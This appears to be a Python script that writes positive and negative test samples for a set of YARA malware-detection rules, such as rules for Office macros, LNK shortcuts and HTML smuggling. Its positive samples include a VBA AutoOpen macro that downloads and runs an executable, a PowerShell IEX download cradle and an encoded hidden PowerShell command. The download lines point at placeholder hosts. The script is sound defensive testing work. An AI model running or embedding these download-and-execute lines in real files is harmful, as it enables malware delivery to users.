#!/usr/bin/env python3
"""Writes the positive and negative examples of each starter YARA rule
(rules/yara/*.yar) into samples/yara/<rule>/{positive,negative}/.

Run from the repository root: python3 samples/make_yara.py
`mugai rules test` scans each example with the rules: a positive must match
its rule, a negative must not. Anything that could run is stored as
<name>.in.zip, never raw.
"""
import os, shutil

from mailgen import ROOT, load, write, zip_of

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LNK_HEADER = bytes.fromhex("4c0000000114020000000000c000000000000046")

CASES = {
    "eicar_test_file": {
        "positive": [("eicar.com", EICAR, True)],
        "negative": [("about-eicar.txt", b"The EICAR test file starts with X5O!P and is 68 bytes long.\n", False)],
    },
    "vba_autoexec_download_or_shell": {
        "positive": [
            ("dropper.bas", b'Sub AutoOpen()\r\n  Dim u\r\n  URLDownloadToFile 0, "http://203.0.113.5/a.exe", "C:\\\\Users\\\\Public\\\\a.exe", 0, 0\r\n  Shell "C:\\\\Users\\\\Public\\\\a.exe"\r\nEnd Sub\r\n', True),
            ("gen_docm_autoopen_shell.docm", load("gen_docm_autoopen_shell.docm", "office"), True),
        ],
        "negative": [
            ("greeting.bas", b'Sub AutoOpen()\r\n  MsgBox "Welcome"\r\nEnd Sub\r\n', False),
            ("shell_no_autorun.bas", b'Sub RunReport()\r\n  Shell "notepad.exe report.txt"\r\nEnd Sub\r\n', False),
        ],
    },
    "xlm_exec_or_call": {
        "positive": [
            ("macrosheet.xml", b'<xm:macrosheet><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>', True),
            ("exec.slk", b'ID;PWXL;N;E\r\nC;Y1;X1;EEXEC("calc.exe")\r\nC;Y2;X1;EHALT()\r\nE\r\n', True),
        ],
        "negative": [
            ("ot_excel4_sample_macro.slk", load("ot_excel4_sample_macro.slk"), True),
            ("sheet.xml", b'<worksheet><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>', False),
            ("notes.txt", b"Use the EXEC statement in SQL; CALL the help desk.\n", False),
        ],
    },
    "powershell_download_cradle": {
        "positive": [
            ("cradle.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')\r\n", True),
            ("encoded.cmd", b"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n", True),
        ],
        "negative": [
            ("inventory.ps1", b"Get-ChildItem C:\\Reports | Where-Object Length -gt 1MB | Export-Csv big.csv\r\n", False),
        ],
    },
    "lnk_runs_shell": {
        "positive": [
            ("lp_powershell_shortcut.lnk", load("lp_powershell_shortcut.lnk"), True),
            ("Invoice.pdf.lnk", load("Invoice.pdf.lnk"), True),
        ],
        "negative": [
            ("lp_microsoft_example.lnk", load("lp_microsoft_example.lnk"), True),
            ("shell-notes.txt", b"To open a shell, run cmd /c dir or powershell.\n", False),
        ],
    },
    "html_smuggling_blob": {
        "positive": [("gen_html_smuggling_zip.html", load("gen_html_smuggling_zip.html"), True)],
        "negative": [("newsletter.html", b'<html><body><p>Download our <a href="https://example.jp/a.pdf" download>PDF</a>.</p></body></html>', False)],
    },
    "iso_with_lnk": {
        "positive": [(
            "invoice_lnk.iso",
            b"\0" * 0x8000 + b"\x01CD001\x01" + b"\0" * 0x7f8 + b"\x22\0" + b"INVOICE.LNK;1" + b"\0" * 0x7e1 + LNK_HEADER + b"\0" * 64,
            True,
        )],
        "negative": [("gen_iso_pe.iso", load("gen_iso_pe.iso"), True)],
    },
    "onenote_embedded_file": {
        "positive": [("tk_testOneNoteEmbeddedWordDoc.one", load("tk_testOneNoteEmbeddedWordDoc.one"), True)],
        "negative": [
            ("guid-in-a-blob.bin", b"not onenote " + bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC"), False),
            ("tk_testWORD.docx", load("tk_testWORD.docx"), False),
        ],
    },
}

shutil.rmtree(os.path.join(ROOT, "yara"), ignore_errors=True)
for rule, kinds in CASES.items():
    for kind, files in kinds.items():
        folder = os.path.join("yara", rule, kind)
        os.makedirs(os.path.join(ROOT, folder), exist_ok=True)
        for name, data, dangerous in files:
            write(folder, name, data, dangerous)
print(sum(len(f) for k in CASES.values() for f in k.values()), "examples for", len(CASES), "rules")
